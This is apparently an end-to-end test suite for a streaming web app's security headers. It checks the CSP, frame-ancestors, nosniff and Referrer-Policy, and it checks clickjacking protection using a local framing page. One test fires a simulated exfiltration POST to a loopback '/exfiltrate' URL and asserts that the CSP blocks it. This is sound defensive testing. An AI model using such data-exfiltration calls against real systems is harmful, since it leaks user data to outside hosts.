// The web app's security headers (web/public/_headers, docs/web.md) as `wrangler dev` serves them:
// the Content-Security-Policy, nosniff, Referrer-Policy and frame-ancestors on the home page, a watch
// page and the app's scripts; a page on another site that frames the app (clickjacking) gets
// nothing, while the OBS chat overlay stays embeddable; and the app runs under its policy in
// Chromium without a single violation (scripts, hls.js's worker, the chat WebSocket).
import { createServer } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Platform, startPlatform } from './harness.ts';
import { ApiClient, type SignedUp, uniqueName } from './lib/api.ts';
import { collectPageErrors, launchWebBrowser, openContext, recordCspViolations } from './web-pages.ts';

/**
 * Another site that frames ours: its own origin (another port) on loopback, as Chromium refuses
 * frames from a public page into the local network before any header is read.
 */
async function serveFramingPage(html: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port for the framing page');
  return {
    url: `http://127.0.0.1:${address.port}/`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

let platform: Platform;
let browser: Browser;
let streamer: SignedUp;
const contexts: BrowserContext[] = [];

async function newPage(): Promise<Page> {
  const context = await openContext(browser);
  contexts.push(context);
  return context.newPage();
}

function readDirectives(policy: string | null): Map<string, string> {
  const directives = new Map<string, string>();
  for (const part of (policy ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name, values.join(' '));
  }
  return directives;
}

describe("the web app's security headers", () => {
  beforeAll(async () => {
    platform = await startPlatform();
    browser = await launchWebBrowser();
    streamer = await new ApiClient(platform.baseUrl).signup(uniqueName('headers'));
  });

  afterAll(async () => {
    for (const context of contexts) await context.close();
    await browser?.close();
    await platform?.stop();
  });

  it("sends a script-src 'self' CSP with frame-ancestors 'none', nosniff and a Referrer-Policy with the home page, a watch page and the app's scripts", async () => {
    const home = await fetch(`${platform.baseUrl}/`);
    const homeHtml = await home.text();
    const script = /<script type="module" crossorigin src="([^"]+)"/.exec(homeHtml)?.[1];
    expect(script).toBeDefined();
    const watch = await fetch(`${platform.baseUrl}/${streamer.channel.name}`);
    const asset = await fetch(`${platform.baseUrl}${script}`);
    for (const response of [home, watch, asset]) {
      expect(response.status).toBe(200);
      const csp = readDirectives(response.headers.get('content-security-policy'));
      expect(csp.get('script-src')).toBe("'self'");
      expect(csp.get('default-src')).toBe("'self'");
      expect(csp.get('object-src')).toBe("'none'");
      expect(csp.get('frame-ancestors')).toBe("'none'");
      expect(response.headers.get('x-frame-options')).toBe('DENY');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    }
    expect(await watch.text()).toContain('<div id="root">');
  });

  it("adds exactly the WHEP endpoint's origin to connect-src on the app's documents, and nowhere else", async () => {
    // WHIP_INGEST_URL is wrangler.toml's http://localhost:8889/whip here; whep_url shares its origin.
    for (const path of ['/', `/${streamer.channel.name}`, '/directory/just-chatting', '/settings']) {
      const response = await fetch(`${platform.baseUrl}${path}`);
      expect(response.status).toBe(200);
      const csp = readDirectives(response.headers.get('content-security-policy'));
      expect(csp.get('connect-src'), path).toBe("'self' http://localhost:8889");
      expect(csp.get('media-src'), path).toBe("'self' blob:");
      expect(csp.get('script-src'), path).toBe("'self'");
    }
    // The OBS overlay plays nothing: still 'self' only.
    const overlay = await fetch(`${platform.baseUrl}/overlay/chat/${streamer.channel.name}`);
    expect(readDirectives(overlay.headers.get('content-security-policy')).get('connect-src')).toBe("'self'");
  });

  it('still blocks a watch page from connecting to any other origin', async () => {
    const page = await newPage();
    const readViolations = await recordCspViolations(page);
    await page.goto(`${platform.baseUrl}/${streamer.channel.name}`);
    await page.locator('header.top-bar').waitFor();
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'x' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    expect(outcome).toBe('blocked');
    expect(await readViolations()).toContain('connect-src blocked http://127.0.0.1:9/exfiltrate');
  });

  it('lets any site frame the OBS chat overlay, with the same policy otherwise', async () => {
    const overlay = await fetch(`${platform.baseUrl}/overlay/chat/${streamer.channel.name}`);
    expect(overlay.status).toBe(200);
    const csp = readDirectives(overlay.headers.get('content-security-policy'));
    expect(csp.get('frame-ancestors')).toBe('*');
    expect(csp.get('script-src')).toBe("'self'");
    expect(overlay.headers.get('x-frame-options')).toBeNull();
    expect(overlay.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('shows nothing of the app inside another site’s frame (clickjacking), but does show the chat overlay', async () => {
    const page = await newPage();
    const appUrl = `${platform.baseUrl}/${streamer.channel.name}`;
    const overlayUrl = `${platform.baseUrl}/overlay/chat/${streamer.channel.name}`;
    const attacker = await serveFramingPage(
      `<!doctype html><iframe id="app" src="${appUrl}"></iframe><iframe id="overlay" src="${overlayUrl}"></iframe>`,
    );
    try {
      await page.goto(attacker.url);
    } finally {
      await attacker.close();
    }
    const overlayFrame = await (await page.waitForSelector('#overlay')).contentFrame();
    if (overlayFrame === null) throw new Error('the overlay iframe has no frame');
    await overlayFrame.locator('.overlay-chat').waitFor({ state: 'attached', timeout: 15_000 });

    const appFrame = await (await page.waitForSelector('#app')).contentFrame();
    if (appFrame === null) throw new Error('the app iframe has no frame');
    // A frame refused by frame-ancestors never runs the app: Chromium leaves its error page there.
    const deadline = Date.now() + 5_000;
    while (Date.now() < deadline && !appFrame.url().startsWith('chrome-error:')) {
      await page.waitForTimeout(100);
    }
    expect(appFrame.url()).not.toBe(appUrl);
    expect(await appFrame.locator('header, .player, #root').count()).toBe(0);
  });

  it('runs under its policy: the home page, a watch page with its chat socket, and the overlay load with no violation', async () => {
    const page = await newPage();
    const errors = collectPageErrors(page);
    const readViolations = await recordCspViolations(page);
    const violations: string[] = [];
    await page.goto(`${platform.baseUrl}/`);
    await page.locator('header').waitFor();
    violations.push(...(await readViolations()));
    await page.goto(`${platform.baseUrl}/${streamer.channel.name}`);
    // The chat socket (ws://, same host) opens: connect-src 'self' covers it.
    await page.locator('.chat-status-open').waitFor({ timeout: 15_000 });
    violations.push(...(await readViolations()));
    await page.goto(`${platform.baseUrl}/overlay/chat/${streamer.channel.name}`);
    await page.locator('.overlay-chat').waitFor({ state: 'attached', timeout: 15_000 });
    violations.push(...(await readViolations()));
    expect(violations).toEqual([]);
    expect(errors).toEqual([]);
  });
});
